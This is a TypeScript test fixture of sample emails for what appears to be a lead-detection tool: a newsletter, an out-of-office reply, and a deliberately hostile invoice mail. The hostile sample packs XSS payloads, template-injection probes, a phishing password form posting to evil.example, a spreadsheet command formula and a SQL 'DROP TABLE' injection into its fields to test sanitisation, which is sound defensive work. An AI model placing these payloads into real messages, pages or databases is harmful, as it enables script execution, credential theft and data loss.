import { alex, sales } from '../people.ts';
import type { SampleMail } from '../sample-mail.ts';

/** Mails that should not become leads, or not without a second look. */
export const noInquiries: SampleMail[] = [
  {
    id: 'newsletter',
    from: { name: 'Coffee Trade Weekly', address: 'news@trey.example' },
    to: [alex],
    subject: 'This week: bean prices, a new grinder, and five office trends',
    sentAt: '2026-11-19T06:00:00+00:00',
    conversationId: 'AAQkAG5ld3NsZXR0ZXItNDc',
    internetMessageId: '<issue-47.alex@lists.trey.example>',
    headers: ['List-Unsubscribe: <https://lists.trey.example/u/47>', 'Precedence: bulk'],
    html: `<div><h1>Coffee Trade Weekly</h1><p>Issue 47 · 19 November 2026</p>
<h2>Bean prices steady</h2><p>Arabica closed the week where it opened it.
<a href="https://trey.example/47/prices">Read more</a></p>
<h2>A quieter grinder</h2><p>We measured six of them. <a href="https://trey.example/47/grinders">See the table</a></p>
<h2>Five office trends</h2><ul><li>Smaller machines, more of them</li><li>Leasing before buying</li>
<li>Oat milk on tap</li><li>Telemetry for service</li><li>Second-hand equipment</li></ul>
<p><small>You receive this because you subscribed. <a href="https://lists.trey.example/u/47">Unsubscribe</a> ·
Trey Research, 1 Example Way, London</small></p></div>`,
  },
  {
    id: 'out-of-office',
    from: { name: 'Lee Gu', address: 'lee.gu@proseware.example' },
    to: [alex],
    subject: 'Automatic reply: Your offer 2026-1189',
    sentAt: '2026-11-18T14:33:00+00:00',
    conversationId: 'AAQkAHByb3Nld2FyZS1vb28',
    internetMessageId: '<ooo.20261118143300@proseware.example>',
    headers: ['Auto-Submitted: auto-replied', 'X-Auto-Response-Suppress: All'],
    text: `Thank you for your message. I am out of the office until 30 November with limited access to email.
In urgent cases please contact my colleague Pradeep Gupta (pradeep.gupta@proseware.example, +1 425 555 0129).

Lee Gu
Director of Purchasing, Proseware, Inc.`,
  },
  {
    id: 'hostile',
    from: { name: '[click](https://evil.example) <img src=x onerror=alert(1)> **x**', address: 'mallory@evil.example' },
    to: [sales, { name: '"><script>alert(2)</script>', address: 'victim@contoso.example' }],
    subject: '<b>Invoice</b> {{7*7}} <%= alert(3) %> [pay now](javascript:alert(4)) \u202egpj.exe',
    sentAt: '2026-11-17T03:14:00+00:00',
    conversationId: 'AAQkAGhvc3RpbGU',
    internetMessageId: '<"><script>alert(5)</script>@evil.example>',
    html: `<div onclick="alert(6)"><script>alert(7)</script><script>parent.document.title='owned'</script>
<style>body { display: none }</style><base href="https://evil.example/">
<p>Dear <b>customer</b>, <a href="javascript:alert(8)">open your invoice</a> or
<a href="https://evil.example/pay">pay here</a>.</p>
<img src="https://evil.example/pixel.gif" onerror="alert(9)" alt="Invoice"><svg onload="alert(10)"></svg>
<iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/post"><input name="password">
<button>Sign in</button></form><object data="https://evil.example/x"></object>
<p>**bold** _it_ [link](https://evil.example) &lt;at&gt;everyone&lt;/at&gt; <at>everyone</at></p>
<p>Mallory <img src=x onerror=alert(11)><br>=cmd|' /C calc'!A0<br>Robert'); DROP TABLE leads;--<br>+1 425 555 0199</p></div>`,
  },
];
